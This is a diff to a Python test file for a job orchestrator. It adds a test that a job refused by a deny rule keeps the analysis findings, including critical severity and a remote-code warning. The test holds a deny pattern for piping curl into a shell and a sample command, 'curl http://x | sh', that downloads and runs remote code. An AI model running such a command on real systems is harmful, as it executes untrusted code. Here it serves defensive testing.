@@ -16,7 +16,7 @@ from orchestrator.core import decide, planner, reducer
 from orchestrator.core.decide import Fleet
 from orchestrator.core.job_fold import evolve_job
 from orchestrator.core.judge import judge, submission_of
-from orchestrator.core.policy import Policy
+from orchestrator.core.policy import Policy, Rule
 from orchestrator.core.views import JobView, NodeView
 from schemas import codec, subjects
 from schemas.envelope import Outgoing
@@ -221,6 +221,18 @@ def test_a_dispatch_over_the_size_limit_is_rejected_at_analysis() -> None:
     view, f = job(status="requested", env=env), fleet(hb("n1"))
     ev = rejection(decide.decide_job(view, f, NOW, judged(view, f)))
     assert ev.code == "too_large"
+
+
+def test_a_rejection_by_the_analysis_carries_what_it_found() -> None:
+    """Review: a job refused by a deny rule read 'Severity: none / No findings' while the analysis
+    had found `critical remote_code`: the rejection kept only code and reason."""
+    policy = Policy(deny=[Rule(pattern=r"curl .*\| *sh", reason="no piping the web into a shell")])
+    view, f = job(status="requested", command="curl http://x | sh"), fleet(hb("n1"))
+    ev = rejection(decide.decide_job(view, f, NOW, judged(view, f, policy)))
+    assert (ev.code, ev.severity) == ("policy_denied", "critical")
+    assert "remote_code" in {w.type for w in ev.warnings} and all(w.command is None for w in ev.warnings)
+    after, note = evolve_job(job(status="requested"), "j1", ev, NOW, 5)
+    assert note is None and after is not None and (after.status, after.severity, after.warnings) == ("rejected", "critical", ev.warnings)
 
 
 # ---------------------------------------------------------------- placement: choice
